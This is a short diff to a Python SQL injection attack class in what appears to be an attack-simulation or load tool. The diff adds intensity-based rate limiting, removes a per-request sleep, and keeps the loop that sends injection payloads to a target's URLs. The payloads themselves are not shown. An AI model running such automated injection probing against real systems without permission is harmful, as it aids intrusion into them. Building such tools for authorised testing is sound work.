@@ -12,12 +12,12 @@ logger = logging.getLogger(__name__)
 class SQLInjection(BaseAttack):
     """SQL Injection attack"""
     
+    DEFAULT_PORT = 80
+    INTENSITY_RATES = {'low': 5, 'medium': 20, 'high': 100}
+    
     def get_attack_type(self) -> str:
         return "SQL Injection"
     
-    def get_default_port(self) -> int:
-        return 80
-    
     async def _try_sql_injection(self, session, payload):
         """Try SQL injection payload"""
         port = self.target_port or self.get_default_port()
@@ -30,6 +30,7 @@ class SQLInjection(BaseAttack):
         ]
         
         for url in urls:
+            await self.rate.acquire()
             try:
                 async with session.get(url, timeout=5) as response:
                     await response.read()
@@ -64,8 +65,6 @@ class SQLInjection(BaseAttack):
                 
                 if self.packets_sent % 100 == 0:
                     logger.info(f"SQL-Injection: {self.packets_sent} attempts")
-                
-                await asyncio.sleep(1)
         
         logger.info(f"SQL-Injection: Attack complete. Total attempts: {self.packets_sent}")
 